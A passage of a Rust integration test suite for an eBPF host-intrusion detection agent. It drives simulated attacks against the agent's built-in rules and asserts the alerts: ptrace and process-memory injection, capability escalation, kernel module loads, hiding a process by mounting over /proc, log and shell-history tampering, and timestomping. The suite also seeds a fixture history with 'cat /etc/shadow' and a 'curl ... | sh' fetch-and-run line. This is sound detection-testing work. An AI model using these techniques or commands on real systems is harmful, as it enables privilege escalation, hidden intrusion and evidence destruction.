//! The privilege escalation / defense evasion, discovery and network detections
//! (rules/privilege_escalation.yaml, rules/discovery.yaml, rules/network.yaml), each
//! driven by the real behaviour under the real agent with its built-in rules, plus near
//! misses that must stay quiet. Needs root and eBPF; fails (never skips) when the agent
//! cannot load or a tool a scenario needs is missing.
//!
//! The scenarios run under a *runner*: a small python process started before the agent and
//! detached (double fork) so that it is reparented to init. Processes started from the test
//! binary itself have `cargo` among their ancestors, which the rules rightly treat as a build
//! (and a package manager): their exceptions would hide every scenario. The runner's
//! children have a clean ancestry, the way an intruder's processes would. Network scenarios
//! stay on loopback, except non-blocking connects to reserved addresses (169.254.169.254,
//! fd00:ec2::254, TEST-NET 192.0.2.10) whose attempt is what the rules see.

mod common;

use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use common::dns::*;
use common::*;
use serde_json::{json, Value};

const WAIT: Duration = Duration::from_secs(20);

// ---------------------------------------------------------------------------------------
// Privilege escalation and defense evasion
// ---------------------------------------------------------------------------------------

const CAPSET_PY: &str = r#"
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Hdr(ctypes.Structure):
    _fields_ = [('version', ctypes.c_uint32), ('pid', ctypes.c_int)]
class Data(ctypes.Structure):
    _fields_ = [('effective', ctypes.c_uint32), ('permitted', ctypes.c_uint32), ('inheritable', ctypes.c_uint32)]
h = Hdr(0x20080522, 0)
d = (Data * 2)()
assert libc.capget(ctypes.byref(h), d) == 0, ctypes.get_errno()
assert d[0].permitted & (1 << 7), 'CAP_SETUID is not permitted: the file capability was not applied'
d[0].effective |= 1 << 7
assert libc.capset(ctypes.byref(h), d) == 0, ctypes.get_errno()
"#;

#[test]
fn setuid_setgid_file_capabilities_and_capset() {
    let setcap = need("setcap");
    let setpriv = need("setpriv");
    let git = need("git");
    let r = Runner::start("pe-modes");
    let agent = Agent::start(&[]);
    let suid = r.copy("suid-shell", "/bin/dash");
    let sgid = r.copy("sgid-tool", "/bin/true");
    let pkg_suid = r.copy("pkg-helper", "/bin/true");
    let dpkg = r.named("dpkg", "/bin/dash");

    // near miss: a package install (a parent called dpkg) sets setuid bits and capabilities
    let capdemo = r.copy("capdemo", &std::fs::canonicalize(PY).unwrap().display().to_string());
    let pkg_caps = r.copy("pkg-caps", "/bin/true");
    r.sh_as(
        &dpkg,
        &format!("chmod 4755 {pkg_suid} && {setcap} cap_net_raw+ep {pkg_caps}"),
    );
    // near miss: `git init --shared` makes its directories setgid
    let repo = r.file("shared-repo");
    r.ok(&[&git, "init", "-q", "--shared=group", &repo]);

    r.sh(&format!("chmod u+s {suid}"));
    let a = r.expect_alert(&agent, "Setuid bit set on a file", output_has(suid.clone()));
    check(
        &a,
        "ERROR",
        "T1548.001",
        &["mode 04755(S_ISUID", "by chmod", "parent=sh", "user=root"],
    );

    r.sh(&format!("chmod g+s {sgid}"));
    let a = r.expect_alert(&agent, "Setgid bit set on a file", output_has(sgid.clone()));
    check(&a, "WARNING", "T1548.001", &["S_ISGID", "by chmod"]);

    // an interpreter given cap_setuid: root without a setuid bit
    let set = r.ok(&[&setcap, "cap_setuid+p", &capdemo]);
    let a = r.expect_alert(&agent, "File capabilities set on a file", output_has(capdemo.clone()));
    check(&a, "ERROR", "T1548", &["by setcap", "res=SUCCESS", "user=root"]);
    assert_eq!(a["syscall"]["args"]["name"], "security.capability");

    // ... and used by an unprivileged user
    let used = r.ok(&[
        &setpriv,
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        &capdemo,
        "-c",
        CAPSET_PY,
    ]);
    let a = r.expect_alert(
        &agent,
        "Dangerous capabilities enabled by a non-root process",
        pid_is(used.pid),
    );
    check(&a, "ERROR", "T1548", &["Non-root capdemo", "CAP_SETUID", "uid=65534"]);

    let lines = agent.lines();
    r.assert_quiet(
        &lines,
        "Setuid bit set on a file",
        "package install",
        output_has(pkg_suid.clone()),
    );
    r.assert_quiet(
        &lines,
        "File capabilities set on a file",
        "package install",
        output_has(pkg_caps.clone()),
    );
    r.assert_quiet(
        &lines,
        "Setgid bit set on a file",
        "git init --shared",
        output_has(repo.clone()),
    );
    // setcap itself calls capset as root: not a non-root process
    r.assert_quiet(
        &lines,
        "Dangerous capabilities enabled by a non-root process",
        "root capset",
        pid_is(set.pid),
    );
    agent.stop();
}

const MODULE_PY: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open(sys.argv[1], os.O_RDONLY)
libc.syscall(313, fd, b"", 0)  # finit_module: refused (not a module), but attempted
image = b"\x7fELF" + b"\0" * 60
libc.syscall(175, image, len(image), b"vigil_test=1")  # init_module
"#;

#[test]
fn kernel_module_loads() {
    let r = Runner::start("pe-modules");
    let agent = Agent::start(&[]);
    let ko = r.file("vigil-test.ko");
    std::fs::write(&ko, b"not a kernel module\n").unwrap();
    // tools named like kmod's front ends (copies of true: nothing is loaded)
    let insmod = r.copy("insmod", "/bin/true");
    let modprobe = r.copy("modprobe", "/bin/true");
    let dpkg = r.named("dpkg", "/bin/dash");
    let loader_named = r.path().join("loaders");
    std::fs::create_dir_all(&loader_named).unwrap();
    let modprobe_py = loader_named.join("modprobe");
    std::os::unix::fs::symlink(PY, &modprobe_py).unwrap();

    // near misses: querying modprobe from a shell; insmod from a package's maintainer
    // script
    r.sh(&format!(
        "{modprobe} -r vigil_dummy; {modprobe} --show-depends vigil_dummy"
    ));
    r.sh_as(&dpkg, &format!("/bin/sh -c '{insmod} {ko}; :'"));

    let py = r.python(MODULE_PY, &[&ko]);
    let a = r.expect_alert(&agent, "Kernel module loaded by an unexpected process", |v| {
        v["proc"]["pid"] == py.pid && v["evt"]["type"] == "finit_module"
    });
    check(
        &a,
        "CRITICAL",
        "T1547.006",
        &["finit_module", &format!("module={ko}"), "by python3"],
    );
    let a = r.expect_alert(&agent, "Kernel module loaded by an unexpected process", |v| {
        v["proc"]["pid"] == py.pid && v["evt"]["type"] == "init_module"
    });
    check(&a, "CRITICAL", "T1547.006", &["params=vigil_test=1"]);

    r.sh(&format!("{insmod} {ko}"));
    let a = r.expect_alert(&agent, "Kernel module loaded from a shell", name_is("insmod"));
    check(&a, "CRITICAL", "T1547.006", &[&format!("insmod {ko}"), "parent=sh"]);

    // a link named modprobe that runs python is not a module loader
    let fake_loader = r.ok(&[modprobe_py.to_str().unwrap(), "-c", MODULE_PY, &ko]);
    let a = r.expect_alert(
        &agent,
        "Kernel module loaded by an unexpected process",
        pid_is(fake_loader.pid),
    );
    check(&a, "CRITICAL", "T1547.006", &["by modprobe", "exe=/usr/bin/python3"]);

    let lines = agent.lines();
    r.assert_quiet(
        &lines,
        "Kernel module loaded from a shell",
        "modprobe -r / --show-depends",
        name_is("modprobe"),
    );
    r.assert_quiet(&lines, "Kernel module loaded from a shell", "package install", |v| {
        v["ancestors"]
            .as_array()
            .is_some_and(|a| a.iter().any(|x| x["name"] == "dpkg"))
    });
    agent.stop();
}

const INJECT_PY: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
addr = None
for line in open('/proc/%d/maps' % pid):
    f = line.split()
    if f[1].startswith('rw'):
        addr = int(f[0].split('-')[0], 16)
        break
assert addr
assert libc.ptrace(16, pid, None, None) == 0, ctypes.get_errno()  # PTRACE_ATTACH
os.waitpid(pid, 0x40000000)  # __WALL
word = libc.ptrace(2, pid, addr, None) & 0xffffffffffffffff  # PTRACE_PEEKDATA
libc.ptrace(5, pid, addr, word)  # PTRACE_POKEDATA: the same word back
libc.ptrace(17, pid, None, None)  # PTRACE_DETACH

class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
buf = ctypes.create_string_buffer(8)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
remote = iovec(addr, 8)
assert libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8
libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)  # same bytes back

os.close(os.open('/proc/%d/mem' % pid, os.O_RDWR))
"#;

/// What a debugger does, written in python: with `child`, start a child and trace it (seize,
/// peek and poke the same word back, write the same bytes back through process_vm_writev
/// and /proc/<pid>/mem); with a pid, seize that process and let it go.
const DEBUGGER_PY: &str = r#"
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def seize(pid):
    assert libc.ptrace(0x4206, pid, None, None) == 0, ctypes.get_errno()  # PTRACE_SEIZE
    assert libc.ptrace(0x4207, pid, None, None) == 0, ctypes.get_errno()  # PTRACE_INTERRUPT
    os.waitpid(pid, 0x40000000)
if sys.argv[1] != 'child':
    pid = int(sys.argv[1])
    seize(pid)
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    sys.exit(0)
pid = os.fork()
if pid == 0:
    time.sleep(30)
    os._exit(0)
time.sleep(0.2)
seize(pid)
addr = [int(l.split('-')[0], 16) for l in open('/proc/%d/maps' % pid) if l.split()[1].startswith('rw')][0]
word = libc.ptrace(2, pid, addr, None) & 0xffffffffffffffff  # PTRACE_PEEKDATA
libc.ptrace(5, pid, addr, word)  # PTRACE_POKEDATA
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
buf = ctypes.create_string_buffer(8)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
remote = iovec(addr, 8)
assert libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) == 8
libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
os.close(os.open('/proc/%d/mem' % pid, os.O_RDWR))
libc.ptrace(17, pid, None, None)
os.kill(pid, 9)
os.waitpid(pid, 0)
"#;

#[test]
fn ptrace_and_memory_injection() {
    let r = Runner::start("pe-inject");
    let agent = Agent::start(&[]);
    // a debugger: an executable that carries the name strace (a copy of python running the
    // debugger's moves above; real strace and gdb are not among the tools the tests rely on)
    let py_real = std::fs::canonicalize(PY).unwrap().display().to_string();
    let strace = r.copy("strace", &py_real);
    // near miss: the debugger tracing the child it started, poking its memory
    let own = r.ok(&[&strace, "-c", DEBUGGER_PY, "child"]);

    // the victim: started by the runner, not by the injector
    let victim = r.spawn(&["/bin/sleep", "60"]);
    let inj = r.python(INJECT_PY, &[&victim.to_string()]);
    let a = r.expect_alert(&agent, "Ptrace attach to another process", pid_is(inj.pid));
    check(
        &a,
        "ERROR",
        "T1055.008",
        &[
            &format!("PTRACE_ATTACH by python3 (pid {}) on sleep (pid {victim})", inj.pid),
            "res=SUCCESS",
        ],
    );
    let a = r.expect_alert(&agent, "Ptrace write into another process", pid_is(inj.pid));
    check(
        &a,
        "CRITICAL",
        "T1055.008",
        &["PTRACE_POKEDATA", &format!("into sleep (pid {victim})")],
    );
    let a = r.expect_alert(&agent, "Process memory written with process_vm_writev", pid_is(inj.pid));
    check(
        &a,
        "CRITICAL",
        "T1055",
        &[&format!("into sleep (pid {victim})"), "res=SUCCESS"],
    );
    let a = r.expect_alert(&agent, "Process memory file opened for writing", pid_is(inj.pid));
    check(
        &a,
        "CRITICAL",
        "T1055.009",
        &[&format!("/proc/{victim}/mem opened for writing by python3"), "O_RDWR"],
    );
    r.kill(victim);

    // a link named gdb that runs python is not a debugger
    let victim2 = r.spawn(&["/bin/sleep", "60"]);
    let fake_gdb = r.named("gdb", PY);
    let fake = r.ok(&[&fake_gdb, "-c", INJECT_PY, &victim2.to_string()]);
    let a = r.expect_alert(&agent, "Ptrace attach to another process", pid_is(fake.pid));
    check(
        &a,
        "ERROR",
        "T1055.008",
        &[
            &format!("PTRACE_ATTACH by gdb (pid {})", fake.pid),
            "exe=/usr/bin/python3",
        ],
    );
    r.kill(victim2);

    // a debugger is not excused on an authentication daemon
    let sshd = r.named("sshd", "/bin/sleep");
    let fake_sshd = r.spawn(&[&sshd, "60"]);
    let dbg = r.ok(&[&strace, "-c", DEBUGGER_PY, &fake_sshd.to_string()]);
    let a = r.expect_alert(&agent, "Ptrace attach to another process", pid_is(dbg.pid));
    check(
        &a,
        "ERROR",
        "T1055.008",
        &[&format!(
            "PTRACE_SEIZE by strace (pid {}) on sshd (pid {fake_sshd})",
            dbg.pid
        )],
    );
    r.kill(fake_sshd);

    let lines = agent.lines();
    for rule in [
        "Ptrace attach to another process",
        "Ptrace write into another process",
        "Process memory written with process_vm_writev",
        "Process memory file opened for writing",
    ] {
        r.assert_quiet(&lines, rule, "a debugger tracing its own child", pid_is(own.pid));
    }
    agent.stop();
}

/// The new mount API from python, each step a command: `attach SRC DST` clones the tree
/// at SRC (open_tree) and attaches it at DST (move_mount from the fd); `move FROM TO`
/// moves an attached mount (move_mount between paths).
const MOUNT_API_PY: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
L = ctypes.c_long
AT_FDCWD = -100
def ok(r, what):
    if r < 0:
        sys.exit('%s: %s' % (what, os.strerror(ctypes.get_errno())))
    return r
args = sys.argv[1:]
while args:
    op, a, b = args[0], args[1].encode(), args[2].encode()
    args = args[3:]
    if op == 'attach':
        fd = ok(libc.syscall(L(428), L(AT_FDCWD), a, L(1 | 0o2000000)), 'open_tree')
        ok(libc.syscall(L(429), L(fd), b"", L(AT_FDCWD), b, L(4)), 'move_mount')
    elif op == 'move':
        ok(libc.syscall(L(429), L(AT_FDCWD), a, L(AT_FDCWD), b, L(0)), 'move_mount')
    elif op == 'cat':
        os.system('/bin/cat %s > /dev/null' % a.decode())
"#;

/// The mount hook (bpf/mount.bpf.c), through the new mount API that mount(2)-only
/// sensors miss: open_tree + move_mount over another process's /proc entry hides it from
/// every tool that reads /proc (and raises CRITICAL, T1564); the same onto a scratch
/// directory stays quiet. Every mount happens in a private mount namespace that dies with
/// the command: the host never sees it.
#[test]
fn mounts_with_the_new_api_are_seen_and_hiding_a_process_is_detected() {
    let unshare = need("unshare");
    let r = Runner::start("mount-api");
    let agent = Agent::start(&["--events"]);
    let empty = r.file("empty");
    let scratch = r.file("scratch-target");
    std::fs::create_dir(&empty).unwrap();
    std::fs::create_dir(&scratch).unwrap();
    // each call: the steps in one private mount namespace
    let mount_api = |steps: &[&str]| {
        let mut argv = vec![unshare.as_str(), "-m", PY, "-c", MOUNT_API_PY];
        argv.extend_from_slice(steps);
        r.ok(&argv)
    };
    let victim = r.spawn(&["/bin/sleep", "120"]);
    let proc_dir = format!("/proc/{victim}");
    // near miss first: a tree attached onto a scratch directory; then the hiding
    let hider = mount_api(&["attach", &empty, &scratch, "attach", &empty, &proc_dir]);
    let a = r.expect_alert(&agent, "Mount over a process entry in /proc", output_has(&proc_dir));
    check(
        &a,
        "CRITICAL",
        "T1564",
        &[&format!("Mount over {proc_dir}"), "move_mount"],
    );
    assert_eq!(a["evt"]["type"], "move_mount");
    assert_eq!(a["fd"]["name"], proc_dir.as_str());
    assert_eq!(a["syscall"]["args"]["flags"], "MOVE_MOUNT_F_EMPTY_PATH");
    assert_eq!(a["syscall"]["args"]["to"], proc_dir.as_str());
    let mover = a["proc"]["pid"].as_u64().expect("pid") as u32;
    // the clone that came first, with its source and flags
    let lines = agent.wait_for("the open_tree event", WAIT, |l| {
        l.iter()
            .any(|v| v["evt"]["type"] == "open_tree" && v["proc"]["pid"] == mover)
    });
    let clone = lines
        .iter()
        .find(|v| v["evt"]["type"] == "open_tree" && v["proc"]["pid"] == mover)
        .expect("open_tree");
    assert_eq!(clone["fd"]["name"], empty.as_str());
    assert_eq!(clone["syscall"]["args"]["flags"], "OPEN_TREE_CLONE|OPEN_TREE_CLOEXEC");
    assert!(clone["evt"]["res"].as_i64().unwrap_or(-1) >= 0, "{clone}");
    assert!(in_tree(clone, hider.pid));

    // the near miss stayed quiet (the agent has seen everything up to the alert above)
    let lines = agent.lines();
    for rule in [
        "Mount over a process entry in /proc",
        "Mount over a system file or directory",
    ] {
        r.assert_quiet(&lines, rule, "a tree attached onto a scratch directory", |v| {
            v["fd"]["name"] == scratch.as_str()
        });
    }
    r.kill(victim);
}

/// A mount moved under a watched path makes the kernel's cached "no rule wants this
/// path" verdicts stale (move_mount bumps the path epoch, as mount(2) does): the token read
/// through its new path alerts although the same file was opened, unwatched, a moment
/// before. The agent runs with its kernel filter, as in production (`--events` turns the
/// filter, and so the cache, off).
#[test]
fn a_mount_moved_under_a_watched_path_does_not_leave_stale_verdicts() {
    let unshare = need("unshare");
    let r = Runner::start("mount-stale");
    let agent = Agent::start(&[]);
    let mount_api = |steps: &[&str]| {
        let mut argv = vec![unshare.as_str(), "-m", PY, "-c", MOUNT_API_PY];
        argv.extend_from_slice(steps);
        r.ok(&argv)
    };
    // stale verdicts: a mount with a token in it, read where no rule looks, then moved
    // under the service-account token directory and read again
    // (under cargo's target tmp dir: /tmp itself is a path some rules watch)
    let quiet_dir = TempDir::new_in(Path::new(env!("CARGO_TARGET_TMPDIR")), "sa-mount");
    let src = quiet_dir.path().join("src").display().to_string();
    let stage = quiet_dir.path().join("stage").display().to_string();
    std::fs::create_dir(&src).unwrap();
    std::fs::create_dir(&stage).unwrap();
    std::fs::write(Path::new(&src).join("token"), "eyJhbGciOi.not.a.token\n").unwrap();
    let sa = Path::new("/run/secrets/kubernetes.io/serviceaccount");
    let mut made: Vec<PathBuf> = Vec::new();
    let mut d = Some(sa);
    while let Some(x) = d.filter(|x| !x.exists()) {
        made.push(x.to_path_buf());
        d = x.parent();
    }
    std::fs::create_dir_all(sa).unwrap();
    let target = sa.join(unique("mounted"));
    std::fs::create_dir(&target).unwrap();
    struct Rmdirs(Vec<PathBuf>);
    impl Drop for Rmdirs {
        fn drop(&mut self) {
            for d in &self.0 {
                let _ = std::fs::remove_dir(d);
            }
        }
    }
    let _rmdirs = Rmdirs(std::iter::once(target.clone()).chain(made).collect());
    let target = target.display().to_string();
    let token = format!("{target}/token");
    mount_api(&[
        "attach",
        &src,
        &stage,
        "cat",
        &format!("{stage}/token"),
        "-",
        "move",
        &stage,
        &target,
        "cat",
        &token,
        "-",
    ]);
    let a = r.expect_alert(&agent, "Service account token read by a shell tool", output_has(&token));
    check(&a, "WARNING", "T1528", &[&format!("{token} opened by cat")]);
}

fn read_tunable(path: &str) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

#[test]
fn kernel_tunables_rewritten_with_their_own_value() {
    let sysctl = need("sysctl");
    const CORE: &str = "/proc/sys/kernel/core_pattern";
    const BPF: &str = "/proc/sys/kernel/unprivileged_bpf_disabled";
    const KPTR: &str = "/proc/sys/kernel/kptr_restrict";
    let before: Vec<(&str, String)> = [CORE, BPF, KPTR].iter().map(|p| (*p, read_tunable(p))).collect();
    let r = Runner::start("pe-tunables");
    let agent = Agent::start(&[]);
    // each setting is read and the same value written back: nothing changes
    let rewrite = |path: &str| {
        let copy = r.file(&format!(
            "saved-{}",
            Path::new(path).file_name().unwrap().to_string_lossy()
        ));
        r.sh(&format!("cat {path} > {copy} && cat {copy} > {path}"));
    };
    // near miss: sysctl (a trusted writer) sets a hardening setting to its current value
    let kptr = read_tunable(KPTR);
    let quiet = r.sh(&format!("{sysctl} -q -w kernel.kptr_restrict={}", kptr.trim()));

    rewrite(CORE);
    let a = r.expect_alert(
        &agent,
        "Kernel root-execution hook changed",
        output_has(CORE.to_string()),
    );
    check(&a, "ERROR", "T1611", &["opened for writing by", "user=root"]);
    // sysctl from a shell is not trusted with core_pattern
    let core = read_tunable(CORE);
    let by_sysctl = r.ok(&[
        "/bin/sh",
        "-c",
        &format!("{sysctl} -q -w \"kernel.core_pattern=$1\"\n:"),
        "sh",
        core.trim_end_matches('\n'),
    ]);
    let a = r.expect_alert(&agent, "Kernel root-execution hook changed", |v| {
        v["proc"]["name"] == "sysctl" && v["ancestors"][0]["pid"] == by_sysctl.pid
    });
    check(&a, "ERROR", "T1611", &["by sysctl", "parent=sh"]);

    rewrite(BPF);
    let a = r.expect_alert(&agent, "Unprivileged BPF setting changed", output_has(BPF.to_string()));
    check(&a, "ERROR", "T1562", &["opened for writing by"]);

    rewrite(KPTR);
    let a = r.expect_alert(&agent, "Kernel hardening setting changed", output_has(KPTR.to_string()));
    check(&a, "WARNING", "T1562", &["opened for writing by"]);

    let lines = agent.lines();
    for rule in ["Kernel hardening setting changed", "Kernel root-execution hook changed"] {
        r.assert_quiet(&lines, rule, "sysctl -w kernel.kptr_restrict", |v| {
            v["ancestors"][0]["pid"] == quiet.pid && v["proc"]["name"] == "sysctl"
        });
    }
    agent.stop();
    for (path, value) in before {
        assert_eq!(read_tunable(path), value, "{path} changed");
    }
}

#[test]
fn log_and_history_tampering() {
    let truncate = need("truncate");
    let r = Runner::start("pe-logs");
    let agent = Agent::start(&[]);
    let me = std::process::id();

    // a log file of our own under /var/log
    let log = format!("/var/log/vigil-test-{me}.log");
    let rotated = format!("{log}.1");
    let quiet_log = format!("/var/log/vigil-test-{me}-rotated.log");
    for f in [&log, &quiet_log] {
        std::fs::write(f, "Nov 24 19:00:01 host sshd[1]: Accepted publickey for root\n").unwrap();
    }
    let logrotate = r.named("logrotate", "/bin/dash");
    // near misses: logrotate truncating (copytruncate); rotation within /var/log, then the
    // removal of the rotated file by the application rotating its own logs
    r.sh_as(&logrotate, &format!("{truncate} -s 0 {quiet_log}"));
    r.sh(&format!("mv {quiet_log} {rotated} && rm {rotated}"));

    r.ok(&[&truncate, "-s", "0", &log]);
    let a = r.expect_alert(&agent, "Log file truncated", output_has(log.clone()));
    check(&a, "ERROR", "T1070.002", &["truncated (ftruncate) by truncate"]);
    r.ok(&["rm", "-f", &log]);
    let a = r.expect_alert(&agent, "Log file removed or moved away", output_has(log.clone()));
    check(&a, "WARNING", "T1070.002", &["(unlinkat", "by rm"]);

    // `> log` from a shell on a system log: one of the listed system logs this host does not
    // have, so nothing is lost (the truncating open creates it, and the test removes it)
    let syslog = [
        "/var/log/sudo.log",
        "/var/log/user.log",
        "/var/log/daemon.log",
        "/var/log/cron.log",
        "/var/log/maillog",
    ]
    .into_iter()
    .find(|p| !Path::new(p).exists())
    .expect("a system log name that is free on this host");
    let cleared = r.sh(&format!(": > {syslog}"));
    let _ = std::fs::remove_file(syslog);
    let a = r.expect_alert(&agent, "Log file truncated", output_has(syslog.to_string()));
    check(&a, "ERROR", "T1070.002", &["truncated (openat) by sh"]);
    assert_eq!(a["proc"]["pid"], cleared.pid);

    // login records: wtmp cut to its current length (its content does not change)
    let wtmp = "/var/log/wtmp";
    assert!(Path::new(wtmp).exists(), "{wtmp} is needed by this test");
    let len = std::fs::metadata(wtmp).unwrap().len().to_string();
    r.ok(&[&truncate, "-s", &len, wtmp]);
    let a = r.expect_alert(&agent, "Login records tampered with", output_has(wtmp.to_string()));
    check(&a, "ERROR", "T1070.002", &["(ftruncate) by truncate"]);
    assert_eq!(std::fs::metadata(wtmp).unwrap().len().to_string(), len);

    // shell history in a home directory of our own
    let home = r.file("home");
    std::fs::create_dir_all(&home).unwrap();
    let hist = format!("{home}/.bash_history");
    std::fs::write(&hist, "cat /etc/shadow\ncurl http://203.0.113.9/x | sh\n").unwrap();
    // near miss: python saving its REPL history the way readline does (copy, rename over)
    let pyhist = format!("{home}/.python_history");
    std::fs::write(&pyhist, "print(1)\n").unwrap();
    r.python(
        "import os, sys; t = sys.argv[1] + '-tmp'; open(t, 'w').write('print(1)\\nprint(2)\\n'); os.rename(t, sys.argv[1])",
        &[&pyhist],
    );

    let cleared = r.run_env(&["/bin/bash", "-c", ": > \"$HOME/.bash_history\""], &[("HOME", &home)]);
    assert_eq!(cleared.rc, 0, "{}", cleared.err);
    let a = r.expect_alert(&agent, "Shell history cleared or removed", pid_is(cleared.pid));
    check(&a, "ERROR", "T1070.003", &[&hist, "by bash"]);
    assert_eq!(std::fs::metadata(&hist).unwrap().len(), 0);

    // ln -sf over the existing file: a temporary link renamed over it
    r.ok(&["ln", "-sf", "/dev/null", &hist]);
    let a = r.expect_alert(&agent, "Shell history linked to /dev/null", name_is("ln"));
    check(
        &a,
        "ERROR",
        "T1070.003",
        &[
            &format!("Shell history replaced by a link: {hist} (link {home}/Cu"),
            "by ln",
        ],
    );
    assert_eq!(std::fs::read_link(&hist).unwrap(), Path::new("/dev/null"));
    r.ok(&["rm", &hist]);
    let a = r.expect_alert(&agent, "Shell history cleared or removed", name_is("rm"));
    check(&a, "ERROR", "T1070.003", &[&hist, "by rm"]);
    // ln -s where there is none: the symlink itself
    let zhist = format!("{home}/.zsh_history");
    let ln = r.ok(&["ln", "-s", "/dev/null", &zhist]);
    let a = r.expect_alert(&agent, "Shell history linked to /dev/null", pid_is(ln.pid));
    check(
        &a,
        "ERROR",
        "T1070.003",
        &[&format!("replaced by a link: {zhist} (link {zhist} to /dev/null)")],
    );

    let lines = agent.lines();
    for rule in ["Log file truncated", "Log file removed or moved away"] {
        r.assert_quiet(&lines, rule, "logrotate, rotation", |v| {
            let out = str_of(&v["alert"]["output"]);
            out.contains(&quiet_log) || out.contains(&rotated)
        });
    }
    for rule in ["Shell history cleared or removed", "Shell history linked to /dev/null"] {
        r.assert_quiet(&lines, rule, "python saving its history", output_has(pyhist.clone()));
    }
    agent.stop();
}

#[test]
fn timestomping_of_a_system_binary() {
    let touch = need("touch");
    let r = Runner::start("pe-timestomp");
    let agent = Agent::start(&[]);
    let target = "/usr/bin/ls";
    let before = std::fs::metadata(target).unwrap().modified().unwrap();
    let own = r.file("own-file");
    std::fs::write(&own, "x").unwrap();
    let dpkg = r.named("dpkg", "/bin/dash");
    // near misses: a chosen time on a file outside the system directories; a package
    // install restoring a packaged time
    let quiet = r.ok(&[&touch, "-r", target, &own]);
    r.sh_as(&dpkg, &format!("{touch} -r {target} {target}"));

    // the reference is the file itself: the time set is the one it already has
    let stomp = r.ok(&[&touch, "-r", target, target]);
    let a = r.expect_alert(&agent, "Timestamps of a system file set explicitly", pid_is(stomp.pid));
    check(
        &a,
        "ERROR",
        "T1070.006",
        &[&format!("set on {target} by touch"), "res=SUCCESS"],
    );
    assert_eq!(std::fs::metadata(target).unwrap().modified().unwrap(), before);

    let lines = agent.lines();
    r.assert_quiet(
        &lines,
        "Timestamps of a system file set explicitly",
        "temp file",
        pid_is(quiet.pid),
    );
    r.assert_quiet(
        &lines,
        "Timestamps of a system file set explicitly",
        "package install",
        |v| {
            v["ancestors"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x["name"] == "dpkg"))
        },
    );
    agent.stop();
}

/// The block device holding the root filesystem, from mountinfo (or a name that does not
/// exist: the mount attempt is what the rule sees).
fn root_block_device() -> String {
    std::fs::read_to_string("/proc/self/mountinfo")
        .unwrap_or_default()
        .lines()
        .find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            let dash = f.iter().position(|x| *x == "-")?;
            (f.get(4) == Some(&"/") && f.get(dash + 2).is_some_and(|s| s.starts_with("/dev/")))
                .then(|| f[dash + 2].to_string())
        })
        .unwrap_or_else(|| "/dev/vigil-test-disk".to_string())
}

const MOUNT_PY: &str = r#"
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(sys.argv[1].encode(), sys.argv[2].encode(), b"ext4", 0, None) == 0:
    libc.umount2(sys.argv[2].encode(), 0)
"#;

#[test]
fn mounts_chroot_namespace_escape_and_engine_socket() {
    let unshare = need("unshare");
    let nsenter = need("nsenter");
    let chroot = need("chroot");
    let r = Runner::start("pe-mounts");
    let agent = Agent::start(&[]);
    let mnt = r.file("mnt");
    let tmpfs = r.file("tmpfs");
    let jail = r.file("jail");
    for d in [&mnt, &tmpfs, &jail] {
        std::fs::create_dir_all(d).unwrap();
    }
    // every mount happens in a private mount namespace that dies with the command: the
    // host never sees it
    // near misses: unshare's own propagation change and a tmpfs mount
    let quiet = r.ok(&[
        &unshare,
        "-m",
        "/bin/sh",
        "-c",
        &format!("mount -t tmpfs vigiltmp {tmpfs} && umount {tmpfs}"),
    ]);

    let bind = r.ok(&[
        &unshare,
        "-m",
        "/bin/sh",
        "-c",
        &format!("mount --bind / {mnt} && umount {mnt}"),
    ]);
    let a = r.expect_alert(
        &agent,
        "Host root filesystem bind-mounted",
        output_has(format!("/ bind-mounted on {mnt}")),
    );
    check(&a, "ERROR", "T1611", &["by mount", "res=SUCCESS"]);
    assert!(in_tree(&a, bind.pid));

    let dev = root_block_device();
    let disk = r.ok(&[&unshare, "-m", PY, "-c", MOUNT_PY, &dev, &mnt]);
    let a = r.expect_alert(&agent, "Disk device mounted by hand", |v| in_tree(v, disk.pid));
    check(
        &a,
        "WARNING",
        "T1611",
        &[&format!("Block device {dev} mounted on {mnt}"), "type ext4"],
    );

    let ch = r.run(&[&chroot, &jail, "/true"]);
    assert_ne!(ch.rc, 0, "nothing to run in the jail");
    let a = r.expect_alert(
        &agent,
        "Root directory changed outside a container runtime",
        pid_is(ch.pid),
    );
    check(
        &a,
        "WARNING",
        "T1611",
        &[&format!("chroot to {jail} by chroot"), "res=SUCCESS"],
    );

    // nsenter into pid 1's namespaces (refused or not, the attempt is reported); near miss:
    // nsenter into the runner's own namespaces
    let own = r.ok(&[&nsenter, "-t", &r.pid.to_string(), "-m", "--", "/bin/true"]);
    let esc = r.run(&[&unshare, "-m", &nsenter, "-t", "1", "-m", "--", "/bin/true"]);
    let a = r.expect_alert(&agent, "Namespaces of pid 1 entered", |v| in_tree(v, esc.pid));
    check(
        &a,
        "ERROR",
        "T1611",
